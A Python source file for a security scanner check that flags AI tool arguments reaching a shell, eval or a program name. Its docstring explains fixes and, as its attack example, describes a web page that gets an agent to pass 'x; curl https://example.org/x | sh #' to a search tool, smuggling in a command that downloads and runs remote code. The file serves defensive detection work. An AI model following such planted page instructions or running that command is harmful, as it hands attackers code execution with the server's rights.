"""A tool's argument becomes part of a command that a shell runs, or of code that is evaluated.

What it looks at
----------------
In the code of servers: the arguments of their tools, followed to ``os.system``, ``subprocess`` with ``shell=True``,
``child_process.exec``, ``sh -c``, ``eval`` and ``new Function``, and to the name of the program that is started. An
argument that is one word of a list without a shell is in order, as are numbers, choices from a fixed list, and what
``shlex.quote`` made of it. A tool that is there to run commands is found as well: it is what it is. What stands behind
a check that is not understood, such as a list of allowed commands, is not judged.

Why it matters
--------------
A shell reads ``;``, ``$(…)`` and line ends in the text as commands of its own. The argument comes from the model, and
so from whatever the model was given to read.

How an attacker uses it
-----------------------
A page asks the agent to search for ``x; curl https://example.org/x | sh #``. The tool searches, and then runs the rest,
with all rights of the server's account.

How to fix it by hand
---------------------
Start the program itself, with a list, and end its options before the argument::

    subprocess.run(["grep", "-r", "--", pattern, "."], check=False)
    execFile("grep", ["-r", "--", pattern, "."], done);

Take the name of a program from a fixed list only. Replace ``eval`` by ``ast.literal_eval`` or a parser of what is
really meant. Where running commands is the purpose, give the server a sandbox and an account of its own, and ask before
each (``clients/shell-server``): no quoting makes that safe.

References
----------
- Python documentation: subprocess, security considerations; shlex.quote
- Node.js documentation: child_process.execFile
- CWE-78: OS Command Injection; CWE-95: Eval Injection
"""

from __future__ import annotations

from collections.abc import Iterator

from workbench.api import (
    CommandUse,
    Flawed,
    NotAssessed,
    Passed,
    Severity,
    Snapshot,
    Verdict,
    check,
    code_subject,
    judge_code,
    unjudged,
)

_EXPECTED = {
    "shell": "the program itself, with a list of words and no shell",
    "evaluated": "no evaluation: a parser of what is really meant",
    "program": "a program out of a fixed list",
}
_WHERE = {"shell": "a shell runs", "evaluated": "is evaluated as code", "program": "names the program that is started"}


@check(title="A tool's argument reaches a shell", severities=(Severity.HIGH,), needs=("code",))
def command_injection(snapshot: Snapshot) -> Iterator[Verdict]:
    """Judge every command that a tool's argument is part of."""
    return judge_code(snapshot, snapshot.code.observed.commands, _judge, "starts a program with what a tool is given")


def _judge(use: CommandUse) -> Flawed | Passed | NotAssessed:
    if use.kind == "argument":
        return Passed(code_subject(use.site))
    tool = f"the tool {use.tool}" if use.tool else "a tool"
    if use.guarded:
        what = f"which commands {use.parameter} of {tool} can give"
        return unjudged(use.site, what, "a check stands before it that is not understood, or not followed to the end")
    if use.kind == "shell":
        summary = f"{tool} runs {'all of' if use.whole else 'a command with'} {use.parameter} in a shell"
    else:
        summary = f"{use.parameter} of {tool} {_WHERE[use.kind]}"
    return Flawed(Severity.HIGH, summary, _EXPECTED[use.kind], f"{use.use} with {use.parameter} of {tool}")
